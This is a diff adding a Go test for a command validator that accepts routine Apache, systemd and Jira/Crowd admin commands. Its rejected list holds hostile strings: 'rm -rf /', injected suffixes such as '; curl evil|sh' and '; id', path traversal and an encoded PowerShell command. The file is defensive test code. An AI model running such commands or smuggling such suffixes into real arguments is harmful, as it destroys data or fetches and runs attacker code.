@@ -1,0 +1,25 @@
+package distro
+
+import "testing"
+
+func TestReplayable(t *testing.T) {
+	for _, ok := range []string{
+		"a2dismod -q -f proxy_http", "a2dissite -q frontdoor-jira.example.com", "setsebool -P httpd_can_network_connect 0",
+		"systemctl restart apache2", "systemctl stop 'jira'", "service 'jira' start", "apache2ctl configtest 2>&1",
+		"'/opt/atlassian/jira/bin/start-jira.sh'", "'/opt/atlassian/crowd/start_crowd.sh'", HTTPReady(8080, "jira", 180),
+		WinCommand("service", WinParams{Name: "Apache2.4", Action: "restart"}),
+	} {
+		if !Replayable(ok) {
+			t.Errorf("refused: %q", ok)
+		}
+	}
+	for _, bad := range []string{
+		"rm -rf /", "a2dismod -q -f proxy; curl evil|sh", "systemctl start 'jira'; id", "'/opt/x/bin/start-jira.sh' && id",
+		"'/opt/../etc/bin/start.sh'x", "'/opt/../etc/bin/start.sh'", HTTPReady(8080, "jira", 180) + "; id", "service jira start\nid",
+		WinCommand("mkdir", WinParams{Path: `C:\x`}), "powershell -NoProfile -NonInteractive -EncodedCommand ZQBjAGgAbwA=",
+	} {
+		if Replayable(bad) {
+			t.Errorf("accepted: %q", bad)
+		}
+	}
+}
